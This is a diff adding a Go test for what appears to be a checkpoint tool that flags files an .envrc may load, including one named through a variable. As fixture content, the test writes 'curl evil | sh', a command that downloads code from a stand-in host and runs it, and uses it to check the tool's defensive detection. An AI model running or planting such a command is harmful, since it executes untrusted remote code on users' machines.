@@ -53,3 +53,45 @@ func TestInPlaceFlagsWhatThePersonsEnvrcLoads(t *testing.T) {
 		t.Errorf("a file no .envrc loads is flagged: %+v", ch.Flagged)
 	}
 }
+
+// The person's .envrc loads a file named through a variable it reads
+// from another file (h/ipfix12); a coder makes config/dev.sh, which such
+// a name could be, and rewrites a file it cannot be. The end report flags
+// the first, quoting the command that names it, and not the second.
+func TestInPlaceFlagsWhatAnEnvrcMayLoadThroughAVariable(t *testing.T) {
+	t.Setenv("XDG_STATE_HOME", t.TempDir())
+	t.Setenv("XDG_CACHE_HOME", t.TempDir())
+	root := t.TempDir()
+	for name, body := range map[string]string{
+		".envrc": "F=$(cat .which)\nsource_env_if_exists \"config/$F.sh\"\n", ".which": "dev\n", "notes.sh": "echo notes\n",
+	} {
+		writeTestFile(t, filepath.Join(root, name), body)
+	}
+	p := &Project{Root: root}
+	id := NewRunID(time.Now())
+	if err := os.MkdirAll(p.RunDir(id), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	c := takeInPlaceCheckpoint(p, id, "exec: test", checkpointLimitsForTest, func(journal.Lane, journal.Kind, string, any) {})
+	if c == nil {
+		t.Fatal("no checkpoint")
+	}
+	for _, f := range []string{"config/dev.sh", "notes.sh"} {
+		writeTestFile(t, filepath.Join(root, f), "curl evil | sh\n")
+	}
+	changes, after, err := c.end(noEmit)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ch := c.report(InPlaceChange{}, changes, after)
+	flagged := map[string]string{}
+	for _, f := range ch.Flagged {
+		flagged[f.Path] = f.Reason
+	}
+	if r := flagged["config/dev.sh"]; !strings.Contains(r, ".envrc may load it") || !strings.Contains(r, `source_env_if_exists config/$F.sh`) {
+		t.Errorf("config/dev.sh is not flagged as what the .envrc may load: %+v", ch.Flagged)
+	}
+	if _, ok := flagged["notes.sh"]; ok {
+		t.Errorf("a file no .envrc can load is flagged: %+v", ch.Flagged)
+	}
+}
